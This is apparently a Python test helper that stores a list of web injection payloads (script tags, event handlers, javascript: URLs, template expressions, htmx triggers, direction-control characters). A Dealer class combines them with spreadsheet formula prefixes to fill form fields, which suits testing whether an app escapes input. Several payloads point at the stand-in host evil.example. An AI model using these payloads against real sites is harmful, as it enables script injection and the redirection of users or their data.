"""Texts with which attackers try to run something in a page, and where they are stored."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final

PAYLOADS: Final = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<div hx-get=/console/leave hx-trigger=load>",
    '" hx-get="/console/leave" hx-trigger="load',
    '<div hx-nonce="guess" hx-post=/console/leave hx-trigger=load>',
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "{{7*7}}",
    "{% import os %}",
    "${7*7}#{7*7}",
    "<!--<script>alert(1)//-->",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "\u202eevil\u202c\u200b\u2066x\u2069",
)
STORED: Final = tuple(each for each in PAYLOADS if each.isprintable())
"""Payloads that can be names; characters that turn the direction of a text are refused in them."""
COMPUTED: Final = "=+-@"
"""Characters with which a cell begins that a spreadsheet computes."""


class Dealer:
    """Deals texts that are made of payloads, and keeps them with the places that they are for.

    A text begins with a character that a spreadsheet computes, and names its place, so that it is
    told from all others.
    """

    def __init__(self) -> None:
        self.dealt: dict[str, str] = {}
        self._next = itertools.cycle(STORED)
        self._starts = itertools.cycle(COMPUTED)

    def all(self, place: str) -> str:
        """Return a text with every payload, for a place that takes a long one."""
        return self._keep(place, f"{next(self._starts)}{place} {' '.join(PAYLOADS)}")

    def some(self, place: str, length: int, *, without: str = "") -> str:
        """Return as many of the next payloads as fit; ``without``: characters that are refused."""
        text = f"{next(self._starts)}{place}"
        for _ in STORED:
            payload = next(self._next)
            if any(each in payload for each in without):
                continue
            if len(text) + 1 + len(payload) > length:
                break
            text += f" {payload}"
        return self._keep(place, text)

    def each(self, place: str, length: int, *, without: str = "") -> Iterator[str]:
        """Yield texts that have every payload together."""
        left = [each for each in STORED if not any(one in each for one in without)]
        for number in itertools.count():
            text = f"{next(self._starts)}{place}-{number}"
            while left and len(text) + 1 + len(left[0]) <= length:
                text += f" {left.pop(0)}"
            yield self._keep(f"{place}-{number}", text)
            if not left:
                return

    def _keep(self, place: str, text: str) -> str:
        assert place not in self.dealt, place
        self.dealt[place] = text
        return text
